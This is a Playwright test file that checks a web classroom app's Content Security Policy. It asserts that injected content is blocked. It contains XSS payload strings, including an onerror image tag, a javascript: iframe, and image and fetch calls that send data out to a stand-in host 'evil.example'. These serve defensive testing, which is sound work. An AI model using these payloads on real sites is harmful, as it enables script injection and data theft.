"""The whole exercise under the policy in a real Chromium; what is slipped in does not run."""

from __future__ import annotations

from collections.abc import Callable

import pytest
from playwright.sync_api import Page, expect

from app.classroom.keys import Keys
from app.components.base import component_words
from tests.classroom.running import ClassServing
from tests.security.hostile import HOSTILE
from tests.serving import Serving
from tests.ui.learner import Learner

pytestmark = pytest.mark.ui

LISTEN = """
window.violations = []
addEventListener("securitypolicyviolation", (event) => {
  const { violatedDirective, blockedURI, sourceFile, lineNumber } = event
  window.violations.push([violatedDirective, blockedURI, sourceFile, lineNumber].join(' '))
})
"""
SCRIPT = "const s = document.createElement('script')"
INSERT = "document.body.insertAdjacentHTML('beforeend',"
ELSEWHERE = "https://evil.example/"
SLIPPED_IN = {
    "an inline script": f"{SCRIPT}; s.textContent = 'window.ran = 1'; document.body.append(s)",
    "a handler in an attribute": f"{INSERT} '<img src=x onerror=\"window.ran = 1\">')",
    "a frame with a script address": f"{INSERT} '<iframe src=\"javascript:parent.ran = 1\"></iframe>')",
    "a script of another host": f"{SCRIPT}; s.src = '{ELSEWHERE}x.js'; document.body.append(s)",
    "an image that carries something out": f"new Image().src = '{ELSEWHERE}?secret'",
    "a request that carries something out": f"fetch('{ELSEWHERE}').catch(() => {{}})",
    "another base": f"document.head.insertAdjacentHTML('beforeend', '<base href=\"{ELSEWHERE}\">')",
}
EVALUATED = """() => new Promise((done) => setTimeout(() => {  // in a task of the page, not of the driver
  const found = []
  for (const run of [() => eval("1"), () => new Function("return 1")(), () => setTimeout("window.ran = 1")]) {
    try { found.push(String(run())) } catch (error) { found.push(error.name) }
  }
  done(found)
}))"""


def violations(page: Page) -> list[str]:
    return list(page.evaluate("window.violations"))


@pytest.mark.parametrize("query", ["?lang=en", "?lang=zh", "?ex=tpot"])
def test_the_page_stays_within_its_policy(learner: Learner, query: str) -> None:
    learner.context.add_init_script(LISTEN)
    learner.open(query)
    assert violations(learner.page) == []


def test_the_whole_exercise_stays_within_its_policy(learner: Learner) -> None:
    learner.context.add_init_script(LISTEN)
    learner.predict()
    learner.step()
    learner.run()
    learner.find("#run button.play").click()
    learner.page.get_by_role("button", name=component_words("en")("component.quantization.show")).click()
    expect(learner.find("#sides canvas").first).to_be_visible(timeout=180_000)
    learner.find("#theme").select_option("dark")
    learner.observe()
    assert violations(learner.page) == []
    learner.reload()
    learner.at("verdict")
    assert violations(learner.page) == []


@pytest.mark.parametrize("what", SLIPPED_IN)
def test_what_is_slipped_in_does_not_run(learner: Learner, what: str) -> None:
    learner.context.add_init_script(LISTEN)
    learner.expected += ["Content Security Policy", "ERR_BLOCKED_BY_CSP", "404", "Refused to"]
    learner.open()
    learner.page.evaluate(f"() => {{ {SLIPPED_IN[what]} }}")
    learner.page.wait_for_function("window.violations.length > 0")
    assert learner.page.evaluate("window.ran") is None
    assert learner.page.evaluate("document.baseURI").startswith(learner.server.url)


def test_nothing_is_evaluated(learner: Learner) -> None:
    learner.context.add_init_script(LISTEN)
    learner.expected += ["Content Security Policy"]
    learner.open()
    assert learner.page.evaluate(EVALUATED)[:2] == ["EvalError", "EvalError"]
    learner.page.wait_for_function("window.violations.length >= 3")
    assert learner.page.evaluate("window.ran") is None


def test_hostile_texts_of_a_learner_stay_texts(learner: Learner) -> None:
    learner.context.add_init_script(LISTEN)
    learner.page.on("dialog", lambda dialog: pytest.fail(f"a dialog: {dialog.message}"))
    learner.read()
    learner.fill()
    for text in HOSTILE[:9]:
        learner.find("#f-why").fill(text)
        learner.find("#predict [name='p95.best']").first.focus()
    learner.page.reload()
    learner.ready()
    expect(learner.find("#f-why")).to_have_value(HOSTILE[8])
    learner.find("#f-why").fill(HOSTILE[4])
    learner.lock()
    learner.run()
    learner.observe()
    learner.reload()
    assert violations(learner.page) == []


def test_pages_of_a_class_stay_within_their_policy(
    learners: Callable[..., Learner], school: ClassServing, keys: Keys
) -> None:
    visitor = learners(school)
    visitor.context.add_init_script(LISTEN)
    for path in (
        f"{school.url}/",
        f"{school.url}/?code={keys.join}",
        f"{school.url}/app",
        f"{school.url}/read/en/main.html",
    ):
        visitor.page.goto(path)
        visitor.page.wait_for_load_state("load")
        assert violations(visitor.page) == [], path


def test_another_site_cannot_frame_the_page(learners: Callable[..., Learner], lab: Serving) -> None:
    learner = learners(lab)
    learner.expected += ["frame-ancestors", "Framing", "chrome-error", "X-Frame", "local network", "loopback"]
    learner.context.unroute_all()
    learner.context.route(
        "http://other.example/",
        lambda route: route.fulfill(content_type="text/html", body=f'<iframe src="{lab.page}"></iframe>'),
    )
    learner.page.goto("http://other.example/")
    learner.page.wait_for_timeout(500)
    assert learner.page.frames[1].locator("#main").count() == 0
